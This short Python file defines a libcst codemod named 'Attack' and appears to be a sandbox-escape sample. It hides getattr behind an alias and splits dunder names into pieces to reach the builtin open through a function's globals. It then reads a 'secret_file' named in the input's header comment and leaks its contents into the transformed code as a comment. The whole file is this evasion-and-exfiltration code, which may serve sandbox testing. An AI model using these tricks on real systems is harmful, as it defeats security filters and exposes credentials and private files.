"""Hide ``getattr`` behind another name, and the names of attributes in pieces."""

import ast
from functools import reduce

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand

UNDER = "_" * 2


def read(path):
    look = getattr
    steps = [UNDER + "init" + UNDER, UNDER + "globals" + UNDER]
    found = reduce(look, steps, cst.MetadataWrapper)
    return found[UNDER + "builtins" + UNDER]["open"](path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by an alias."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
